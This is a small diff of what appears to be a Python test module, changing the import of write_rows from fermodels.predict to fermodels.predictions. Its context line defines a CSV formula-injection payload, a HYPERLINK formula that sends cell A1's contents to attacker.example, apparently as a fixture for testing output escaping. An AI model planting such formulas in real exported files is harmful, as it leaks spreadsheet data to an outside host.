@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 
-from fermodels.predict import write_rows
+from fermodels.predictions import write_rows
 
 EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Happy")'
 
